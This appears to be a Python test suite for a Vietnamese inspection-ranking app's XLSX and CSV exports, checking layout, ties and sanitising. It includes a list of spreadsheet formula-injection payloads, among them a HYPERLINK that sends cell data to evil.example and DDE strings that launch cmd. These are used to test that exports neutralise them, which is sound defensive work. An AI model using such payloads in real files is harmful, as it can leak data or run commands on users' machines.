"""The ranking files: one XLSX sheet per group, and a CSV Excel opens as UTF-8."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from inspections.exports import (
    FORMULA_STARTS,
    HEADER_ROW,
    ranking_csv,
    ranking_workbook,
    safe_cell,
    sheet_titles,
)
from inspections.selectors import GroupRanking, RankingRow
from tests.accounts import sign_in

HEADERS = [
    "STT",
    "Hạng",
    "Mã đơn vị",
    "Đơn vị",
    "Điểm",
    "Xếp loại",
    "Thay đổi so với đợt trước",
    "Ghi chú",
    "Cán bộ kiểm tra",
]
LONG_GROUP = "Khối phường: xã/thị trấn [vùng ven] và khu công nghiệp"


def _row(code: str, name: str, rank: int | None, klass: str, score: str | None, **kw: Any) -> Any:
    names = {"xuat_sac": "Xuất sắc", "tot": "Tốt", "kha": "Khá", "": ""}
    previous = kw.get("previous_rank")
    return RankingRow(
        unit_id=kw.get("unit_id", abs(hash(code)) % 10_000),
        unit_code=code,
        unit_name=name,
        rank=rank,
        classification=klass,
        classification_name=names[klass],
        score=Decimal(score) if score is not None else None,
        provisional=kw.get("provisional", False),
        previous_rank=previous,
        movement=previous - rank if previous is not None and rank is not None else None,
    )


def sample_round(**changes: Any) -> dict[str, Any]:
    return {
        "id": 7,
        "name": "Quý IV/2026",
        "status": "published",
        "starts_on": "2026-10-01",
        "ends_on": "2026-12-31",
        # 20:00 UTC on 31 December is already 1 January in Hà Nội.
        "published_at": "2026-12-31T20:00:00Z",
        "snapshot_number": 2,
        **changes,
    }


def sample_groups() -> list[dict[str, Any]]:
    """Ties (1, 2, 2, 4), a provisional unit, movement up, down, none and new, one unranked."""
    departments = GroupRanking(1, "so-nganh", "Khối sở, ban, ngành")
    departments.rows = [
        _row("SNV", "Sở Nội vụ", 1, "xuat_sac", "95.50", previous_rank=3),
        _row("STC", "Sở Tài chính", 2, "tot", "85.00", previous_rank=1),
        _row("SXD", "Sở Xây dựng", 2, "tot", "85.00", provisional=True),
        _row("SYT", "Sở Y tế", 4, "kha", "70.25", previous_rank=4),
        _row("STP", "Sở Tư pháp", None, "", None),
    ]
    wards = GroupRanking(2, "phuong-xa", LONG_GROUP)
    wards.rows = [_row("PANLAC", "Phường An Lạc", 1, "tot", "80.10", previous_rank=1)]
    return [departments.as_json(), wards.as_json()]


def _open(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content))


def _values(ws: Any, row: int) -> list[Any]:
    return [ws.cell(row=row, column=c).value for c in range(1, len(HEADERS) + 1)]


def test_it_writes_one_sheet_per_group_with_safe_titles() -> None:
    wb = _open(ranking_workbook(round_info=sample_round(), groups=sample_groups()))

    assert wb.sheetnames == ["Khối sở, ban, ngành", "Khối phường- xã-thị trấn -vùng"]
    assert all(len(title) <= 31 for title in wb.sheetnames)


def test_it_writes_the_title_block_of_a_published_ranking() -> None:
    ws = _open(ranking_workbook(round_info=sample_round(), groups=sample_groups())).worksheets[0]

    assert [ws.cell(row=r, column=1).value for r in range(1, 6)] == [
        "Đợt kiểm tra: Quý IV/2026",
        "Khối thi đua: Khối sở, ban, ngành",
        "Bảng xếp hạng đã công bố lần 2",
        "Ngày công bố: 01/01/2027",
        "Thời gian đợt: 01/10/2026 – 31/12/2026",
    ]
    assert _values(ws, HEADER_ROW) == HEADERS


def test_it_marks_an_unpublished_ranking_as_provisional_with_the_export_date() -> None:
    info = sample_round(status="closed", published_at=None, snapshot_number=None)
    content = ranking_workbook(
        round_info=info, groups=sample_groups(), today=datetime.date(2027, 1, 5)
    )
    ws = _open(content).worksheets[1]

    assert ws["A2"].value == f"Khối thi đua: {LONG_GROUP}"
    assert ws["A3"].value == "Bảng xếp hạng tạm tính (đợt chưa công bố)"
    assert ws["A4"].value == "Ngày xuất: 05/01/2027"


def test_it_writes_ranks_ties_movement_and_unranked_units_last() -> None:
    ws = _open(ranking_workbook(round_info=sample_round(), groups=sample_groups())).worksheets[0]
    first = HEADER_ROW + 1

    assert [_values(ws, first + i) for i in range(5)] == [
        [1, 1, "SNV", "Sở Nội vụ", 95.5, "Xuất sắc", "↑2", None, None],
        [2, 2, "STC", "Sở Tài chính", 85, "Tốt", "↓1", None, None],
        [
            3,
            2,
            "SXD",
            "Sở Xây dựng",
            85,
            "Tốt",
            "mới",
            "Tạm tính: còn phiếu kiểm tra chưa được duyệt",
            None,
        ],
        [4, 4, "SYT", "Sở Y tế", 70.25, "Khá", "—", None, None],
        [
            5,
            "Chưa xếp hạng",
            "STP",
            "Sở Tư pháp",
            None,
            None,
            None,
            "Chưa có phiếu kiểm tra được duyệt",
            None,
        ],
    ]
    assert ws.max_row == first + 4


def test_it_stores_scores_as_numbers_with_two_decimals() -> None:
    ws = _open(ranking_workbook(round_info=sample_round(), groups=sample_groups())).worksheets[0]

    for row in range(HEADER_ROW + 1, HEADER_ROW + 5):
        cell = ws.cell(row=row, column=5)
        assert cell.data_type == "n"
        assert isinstance(cell.value, int | float)
        assert cell.number_format == "0.00"
        assert ws.cell(row=row, column=2).data_type == "n"


def test_it_freezes_the_header_sets_widths_and_prints_on_a4_portrait() -> None:
    wb = _open(ranking_workbook(round_info=sample_round(), groups=sample_groups()))

    for ws in wb.worksheets:
        assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
        for letter in "ABCDEFGH":
            assert ws.column_dimensions[letter].width > 5
        assert ws.column_dimensions["D"].width >= 40  # unit names are long
        assert ws.page_setup.paperSize == 9  # A4
        assert ws.page_setup.orientation == "portrait"
        assert ws.page_setup.fitToWidth in (None, 1)  # 1, the default a writer may leave out
        assert ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"  # repeated on each page


def test_it_still_writes_a_sheet_when_there_is_no_group() -> None:
    wb = _open(ranking_workbook(round_info=sample_round(), groups=[]))

    assert len(wb.worksheets) == 1
    assert _values(wb.worksheets[0], HEADER_ROW) == HEADERS


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (["A/B", "A?B"], ["A-B", "A-B (2)"]),
        (["x" * 40, "x" * 40], ["x" * 31, "x" * 27 + " (2)"]),
        (["History", "", "'Khối'"], ["History (2)", "Khối", "Khối (2)"]),
    ],
)
def test_it_makes_sheet_titles_excel_accepts(names: list[str], expected: list[str]) -> None:
    assert sheet_titles(names) == expected


def test_it_writes_a_csv_excel_reads_as_utf8() -> None:
    text = ranking_csv(round_info=sample_round(), groups=sample_groups())

    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == ["Khối thi đua", *HEADERS]
    assert rows[1:] == [
        ["Khối sở, ban, ngành", "1", "1", "SNV", "Sở Nội vụ", "95.50", "Xuất sắc", "↑2", "", ""],
        ["Khối sở, ban, ngành", "2", "2", "STC", "Sở Tài chính", "85.00", "Tốt", "↓1", "", ""],
        [
            "Khối sở, ban, ngành",
            "3",
            "2",
            "SXD",
            "Sở Xây dựng",
            "85.00",
            "Tốt",
            "mới",
            "Tạm tính: còn phiếu kiểm tra chưa được duyệt",
            "",
        ],
        ["Khối sở, ban, ngành", "4", "4", "SYT", "Sở Y tế", "70.25", "Khá", "—", "", ""],
        [
            "Khối sở, ban, ngành",
            "5",
            "Chưa xếp hạng",
            "STP",
            "Sở Tư pháp",
            "",
            "",
            "",
            "Chưa có phiếu kiểm tra được duyệt",
            "",
        ],
        [LONG_GROUP, "1", "1", "PANLAC", "Phường An Lạc", "80.10", "Tốt", "—", "", ""],
    ]


@pytest.mark.django_db
def test_it_exports_the_ranking_computed_from_stored_results(open_round: Any, org: Any) -> None:
    from inspections.models import UnitResult
    from inspections.selectors import ranking_compute
    from tests.factories import OrgUnitFactory

    units = [org.noi_vu, org.thi_dua, org.tai_chinh] + [
        OrgUnitFactory(code=f"S{i}", name=f"Sở thứ {i}", group=org.departments) for i in range(2)
    ]
    standings = [("tot", "88.00", 2), ("xuat_sac", "91.00", 1), ("tot", "88.00", 2)]
    standings += [("kha", "70.00", 3), ("", None, None)]
    for unit, (klass, score, order) in zip(units, standings, strict=True):
        UnitResult.objects.create(
            unit=unit, round=open_round, group=org.departments, classification=klass,
            class_order=order, score=Decimal(score) if score else None,
        )  # fmt: skip
    groups = [g.as_json() for g in ranking_compute(round=open_round, group=org.departments)]
    info = {"id": open_round.pk, "name": open_round.name, "status": "open"}
    ws = _open(ranking_workbook(round_info=info, groups=groups)).worksheets[0]

    ranks = [ws.cell(row=r, column=2).value for r in range(HEADER_ROW + 1, HEADER_ROW + 6)]
    assert ranks == [1, 2, 2, 4, "Chưa xếp hạng"]
    assert ws.cell(row=HEADER_ROW + 1, column=4).value == "Ban Thi đua – Khen thưởng"


# Formula injection: names a hostile workbook could carry, each a formula in a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&D1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_quotes_text_that_starts_like_a_formula(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [92.5, Decimal("92.50"), -3, 0, None, "", "Sở Nội vụ", "a=b", " =1", datetime.date(2026, 1, 1)],
)
def test_safe_cell_leaves_numbers_dates_and_plain_text_alone(value: Any) -> None:
    assert safe_cell(value) is value


def _hostile_groups() -> list[dict[str, Any]]:
    group = GroupRanking(3, "=G", HOSTILE[0])
    group.rows = [
        _row(f"-C{i}", name, i + 1 if i < 3 else None, "tot" if i < 3 else "", "92.5")
        for i, name in enumerate(HOSTILE)
    ]
    return [group.as_json()]


def formula_cells(content: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate, as Sheet!A1."""
    found = []
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                text = cell.value if isinstance(cell.value, str) else ""
                if cell.data_type == "f" or text.startswith(FORMULA_STARTS):
                    found.append(f"{ws.title}!{cell.coordinate}")
    return found


def unsafe_csv_cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_the_workbook_holds_no_formula_and_keeps_scores_as_numbers() -> None:
    content = ranking_workbook(round_info=sample_round(name=HOSTILE[1]), groups=_hostile_groups())

    assert formula_cells(content) == []
    ws = _open(content).worksheets[0]
    rows = range(HEADER_ROW + 1, HEADER_ROW + 1 + len(HOSTILE))
    # A carriage return is kept as Excel's escape _x000D_ (which Excel reads back as one);
    # however it is kept, the quote in front is what matters.
    names = ["'" + n.replace("\r", "\n") for n in HOSTILE]
    stored = [ws.cell(row=r, column=4).value for r in rows]
    assert [v.replace("_x000D_", "\n").replace("\r", "\n") for v in stored] == names
    assert [ws.cell(row=r, column=3).value for r in rows] == [f"'-C{i}" for i in range(6)]
    for r in rows:
        score = ws.cell(row=r, column=5)
        assert (score.data_type, score.value) == ("n", 92.5)
        assert ws.cell(row=r, column=1).data_type == "n"


def test_the_csv_quotes_every_cell_that_starts_like_a_formula() -> None:
    text = ranking_csv(round_info=sample_round(), groups=_hostile_groups())

    assert unsafe_csv_cells(text) == []
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1:]
    assert [row[0] for row in rows] == ["'" + HOSTILE[0]] * len(HOSTILE)
    assert [row[4] for row in rows] == ["'" + n for n in HOSTILE]
    assert {row[5] for row in rows} == {"92.50"}


def test_the_workbook_drops_control_characters_an_xlsx_cannot_hold() -> None:
    group = GroupRanking(3, "g", "Khối")
    group.rows = [_row("C1", "Sở\x07 Nội vụ\x00", 1, "tot", "90")]

    ws = _open(ranking_workbook(round_info=sample_round(), groups=[group.as_json()])).worksheets[0]

    assert ws.cell(row=HEADER_ROW + 1, column=4).value == "Sở Nội vụ"


def _import_hostile_units(by: Any) -> None:
    """The workbook import (the real path a unit's name comes in by), with every name typed
    as text, as Excel stores a cell the user started with a quote."""
    from openpyxl import Workbook

    from inspections.services.units import directory_import

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Don vi"
    sheet.append(["Mã", "Tên", "Cấp trên", "Khối", "Hiệu lực"])
    for i, name in enumerate(HOSTILE):
        sheet.append([f"-EVIL{i}", "", "UBND", "phuong-xa", "01/01/2026"])
        cell = sheet.cell(row=i + 2, column=2)
        cell.value, cell.data_type = name, "s"
    out = io.BytesIO()
    book.save(out)
    directory_import(by=by, data=out.getvalue())


@pytest.mark.django_db
def test_every_export_of_imported_hostile_names_is_inert(
    open_round: Any, org: Any, cast: Any
) -> None:
    from django.test import Client
    from rest_framework.test import APIClient

    from inspections import services
    from inspections.models import OrgUnit
    from tests.inspections.builders import approved_inspection

    _import_hostile_units(cast.internal_affairs)
    hostile = list(OrgUnit.objects.filter(code__startswith="-EVIL").order_by("code"))
    assert [u.name for u in hostile] == [n.strip() for n in HOSTILE]  # the import strips
    approved_inspection(
        open_round, hostile[0], cast.inspector, internal_affairs=cast.internal_affairs
    )

    def exports(user: Any) -> dict[str, tuple[str, bytes]]:
        api, web = APIClient(), Client()
        api.force_authenticate(user)
        sign_in(user, web)
        ranking = f"/api/v1/rounds/{open_round.pk}/ranking/"
        page = f"/dot/{open_round.pk}/xep-hang/"
        group = f"group={org.wards.pk}"
        files = {
            "api xlsx, all groups": api.get(ranking + "?format=xlsx"),
            "api xlsx, one group": api.get(ranking + f"?format=xlsx&{group}"),
            "api csv, all groups": api.get(ranking + "?format=csv"),
            "api csv, one group": api.get(ranking + f"?format=csv&{group}"),
            "web xlsx": web.get(page + "?format=xlsx"),
            "web csv": web.get(page + "?format=csv"),
        }
        assert {name: r.status_code for name, r in files.items()} == dict.fromkeys(files, 200)
        return {name: (name.split()[1].strip(","), r.getvalue()) for name, r in files.items()}

    services.round_close(round=open_round, by=cast.internal_affairs, confirmed=True)
    live = exports(cast.internal_affairs)  # Internal Affairs, before publication
    services.round_publish(round=open_round, by=cast.internal_affairs)
    published = exports(cast.ward_office)  # any role, from the published snapshot

    for name, (kind, content) in {**live, **published}.items():
        if kind == "xlsx":
            assert formula_cells(content) == [], name
            ws = load_workbook(io.BytesIO(content))["Khối phường, xã"]
            cells = {
                ws.cell(row=r, column=4).value: ws.cell(row=r, column=5)
                for r in range(HEADER_ROW + 1, ws.max_row + 1)
            }
            for unit in hostile:
                assert "'" + unit.name in cells, name
            score = cells["'" + hostile[0].name]
            assert score.data_type == "n" and isinstance(score.value, int | float), name
        else:
            text = content.decode("utf-8-sig")
            assert unsafe_csv_cells(text) == [], name
            rows = {row[4]: row for row in csv.reader(io.StringIO(text))}
            for unit in hostile:
                assert rows["'" + unit.name][3] == "'" + unit.code, name
            assert float(rows["'" + hostile[0].name][5]) > 0, name
